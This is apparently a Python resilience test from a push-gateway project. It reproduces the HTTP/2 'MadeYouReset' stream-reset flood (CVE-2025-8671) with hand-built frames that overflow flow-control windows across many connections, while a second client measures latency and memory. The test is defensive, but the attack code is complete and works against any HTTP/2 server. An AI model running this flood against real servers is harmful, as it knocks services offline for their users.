#!/usr/bin/env python3
"""Makes a server reset streams (CVE-2025-8671) while a second client sends pushes.

    python3 Tests/Attacks/made_you_reset.py HOST PORT SECONDS [CONNECTIONS] [PID]

The attacker opens a stream with a complete push and then overflows its window, in clear-text HTTP/2,
as fast as the server takes it, on CONNECTIONS connections (1 if not given), and connects again whenever
the server ends one. The second client sends one push after the other on a connection of its own,
20 a second, and is patient. Both send no provider token: the pushes are refused, and each takes the
whole way to the gateway and the log all the same.

Printed at the end: how many streams were opened and how often the server ended a connection, the second
client's latency, and the memory of the server's process if PID is given. A push that is never answered
counts as the time that was waited for it.

Needs nothing but Python 3.9. Point it at a Belfry of your own machine alone.
"""

import socket
import statistics
import struct
import sys
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0, 1, 3, 4, 6, 7, 8
END_STREAM, END_HEADERS, ACK = 1, 4, 1


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def literal(text):
    """A string literal of HPACK without Huffman coding, shorter than 127 bytes."""
    raw = text.encode()
    return bytes([len(raw)]) + raw


def header_block(token="9f" * 32):
    fields = [
        (":method", "POST"), (":scheme", "http"), (":path", "/3/device/" + token),
        (":authority", "localhost"), ("apns-topic", "com.example.app"),
        ("apns-push-type", "alert"),
    ]
    return b"".join(b"\0" + literal(name) + literal(value) for name, value in fields)


class Connection:
    def __init__(self, host, port):
        self.socket = socket.create_connection((host, port), timeout=10)
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.socket.sendall(PREFACE + frame(SETTINGS, 0, 0))
        self.received = b""

    def read_frame(self):
        """Kind, flags, stream and payload of the next frame; raises OSError at the end."""
        while True:
            if len(self.received) >= 9:
                length = int.from_bytes(self.received[:3], "big")
                if len(self.received) >= 9 + length:
                    head, payload = self.received[:9], self.received[9:9 + length]
                    self.received = self.received[9 + length:]
                    return head[3], head[4], int.from_bytes(head[5:9], "big"), payload
            chunk = self.socket.recv(65536)
            if not chunk:
                raise ConnectionError("closed")
            self.received += chunk

    def close(self):
        self.socket.close()


class Attacker(threading.Thread):
    """Opens streams and has them reset until the time is over."""

    def __init__(self, host, port, end):
        super().__init__(daemon=True)
        self.host, self.port, self.end = host, port, end
        self.streams = self.ended = 0

    def run(self):
        while time.monotonic() < self.end:
            try:
                self.attack(Connection(self.host, self.port))
            except OSError:
                self.ended += 1

    def attack(self, connection):
        threading.Thread(target=self.drain, args=(connection,), daemon=True).start()
        block = header_block()
        overflow = struct.pack(">I", 0x7FFFFFFF)
        stream = 1
        try:
            while time.monotonic() < self.end and stream < 0x7FFFFF00:
                pieces = []
                for _ in range(100):
                    pieces.append(frame(HEADERS, END_STREAM | END_HEADERS, stream, block))
                    pieces.append(frame(WINDOW_UPDATE, 0, stream, overflow))
                    stream += 2
                self.send(connection, b"".join(pieces))
                self.streams += 100
        finally:
            connection.close()

    def send(self, connection, data):
        """A server that stops reading is what one hopes for: wait, but not beyond the end."""
        view = memoryview(data)
        connection.socket.settimeout(1)
        while view and time.monotonic() < self.end:
            try:
                view = view[connection.socket.send(view):]
            except socket.timeout:
                pass

    @staticmethod
    def drain(connection):
        try:
            while connection.socket.recv(1 << 20):
                pass
        except OSError:
            pass


class Client(threading.Thread):
    """Sends pushes one after the other and measures how long each answer takes."""

    def __init__(self, host, port, end):
        super().__init__(daemon=True)
        self.host, self.port, self.end = host, port, end
        self.latencies = []
        self.failures = 0

    def run(self):
        connection, stream = None, 1
        while time.monotonic() < self.end:
            begun = time.monotonic()
            try:
                if connection is None:
                    connection, stream = Connection(self.host, self.port), 1
                    connection.socket.settimeout(60)
                self.push(connection, stream)
                stream += 2
            except OSError:
                self.failures += 1
                connection = None
            self.latencies.append(time.monotonic() - begun)
            time.sleep(0.05)

    @staticmethod
    def push(connection, stream):
        body = b'{"aps":{"alert":"x"}}'
        connection.socket.sendall(
            frame(HEADERS, END_HEADERS, stream, header_block())
            + frame(DATA, END_STREAM, stream, body))
        while True:
            kind, flags, number, payload = connection.read_frame()
            if kind == SETTINGS and not flags & ACK:
                connection.socket.sendall(frame(SETTINGS, ACK, 0))
            elif kind == PING and not flags & ACK:
                connection.socket.sendall(frame(PING, ACK, 0, payload))
            elif kind == GOAWAY:
                raise ConnectionError("GOAWAY")
            elif number == stream and kind == RST_STREAM:
                raise ConnectionError("reset")
            elif number == stream and flags & END_STREAM:
                return


def memory(pid):
    """Megabytes of the process that are in memory; Linux only."""
    try:
        with open(f"/proc/{pid}/status") as status:
            for line in status:
                if line.startswith("VmRSS:"):
                    return int(line.split()[1]) / 1024
    except OSError:
        pass
    return None


def describe(latencies):
    ordered = sorted(latencies)
    return "median %.1f ms, p99 %.1f ms, longest %.1f ms, %d pushes" % (
        statistics.median(ordered) * 1000, ordered[int(len(ordered) * 0.99)] * 1000,
        ordered[-1] * 1000, len(ordered))


def main():
    if len(sys.argv) < 4:
        sys.exit(__doc__)
    host, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
    connections = int(sys.argv[4]) if len(sys.argv) > 4 else 1
    pid = sys.argv[5] if len(sys.argv) > 5 else None

    calm = Client(host, port, time.monotonic() + 2)
    calm.start()
    calm.join()
    print("before:  " + describe(calm.latencies))
    before = memory(pid) if pid else None

    end = time.monotonic() + seconds
    attackers = [Attacker(host, port, end) for _ in range(connections)]
    client = Client(host, port, end)
    for thread in attackers + [client]:
        thread.start()
    peak = before or 0
    while time.monotonic() < end:
        time.sleep(0.2)
        peak = max(peak, (memory(pid) if pid else None) or 0)
    client.join(timeout=65)
    print("attack:  %d streams, connections ended by the server: %d" % (
        sum(a.streams for a in attackers), sum(a.ended for a in attackers)))
    print("client:  %s, %d failed" % (describe(client.latencies), client.failures))
    if before:
        print("memory:  %.0f MB before, %.0f MB at most" % (before, peak))


if __name__ == "__main__":
    main()
